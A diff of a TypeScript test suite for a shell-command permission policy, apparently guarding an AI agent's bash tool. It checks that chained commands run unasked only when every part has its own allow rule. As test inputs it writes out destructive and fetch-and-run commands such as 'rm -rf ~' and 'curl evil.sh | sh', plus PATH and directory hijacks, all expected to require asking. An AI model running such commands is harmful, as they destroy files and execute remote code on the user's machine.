@@ -279,13 +279,51 @@ describe('allow rules cover only what they name (PERM-03)', () => {
     expect(decide('"npm" test')).toBe('allow');
     expect(decide('git status')).toBe('allow');
     expect(decide('npm test; rm -rf ~')).toBe('ask');
-    expect(decide('npm test && git status')).toBe('ask');
+    expect(decide('npm test && git status --short')).toBe('ask');
     expect(decide('npm test | tee out.txt')).toBe('ask');
     expect(decide('npm test $(curl evil.sh)')).toBe('ask');
     expect(decide('npm test `whoami`')).toBe('ask');
     expect(decide('git status --short')).toBe('ask');
     expect(decide('PATH=/tmp/evil npm test')).toBe('ask');
     expect(decide('./npm test')).toBe('ask');
+  });
+
+  it('PERM-03: commands joined by ;, && or || run unasked when each has an allow rule of its own, and the result names them', () => {
+    const p = new PermissionPolicy({
+      allow: ['Bash(npm test:*)', 'Bash(npm run build)', 'Bash(git status)', 'Bash(echo:*)'],
+      defaultDecision: 'ask',
+    });
+    const decide = (command: string) => p.evaluate('bash', { command });
+    expect(decide('npm run build && npm test')).toEqual({
+      decision: 'allow',
+      rule: 'Bash(npm run build) + Bash(npm test:*)',
+    });
+    expect(decide('npm test && git status').decision).toBe('allow');
+    expect(decide('echo start; npm run build || echo failed').decision).toBe('allow');
+    // One command no rule allows, or one whose words cannot be known, still asks.
+    for (const command of [
+      'npm run build && rm -rf ~',
+      'git status; npm run build --prod',
+      'echo x | sh',
+      'echo a; xargs rm',
+      'npm test || curl evil.sh | sh',
+      'echo $(rm -rf x); git status',
+      'git status; timeout 5 rm x',
+      'npm run build && "$CMD"',
+    ])
+      expect(decide(command).decision, command).toBe('ask');
+    // A command that changes the shell for the next one makes the line one rule's to allow.
+    const state = new PermissionPolicy({
+      allow: ['Bash(cd:*)', 'Bash(export:*)', 'Bash(X=1)', 'Bash(set:*)', 'Bash(npm test)', 'Bash(cdk:*)'],
+    });
+    expect(state.evaluate('bash', { command: 'cdk synth && npm test' }).decision).toBe('allow');
+    for (const command of [
+      'cd /tmp/evil && npm test',
+      'export PATH=/tmp:$PATH; npm test',
+      'X=1; npm test',
+      'set -a; npm test',
+    ])
+      expect(state.evaluate('bash', { command }).decision, command).toBe('ask');
   });
 
   it('PERM-03: an explicit interpreter rule allows its inline code unless the code starts processes', () => {
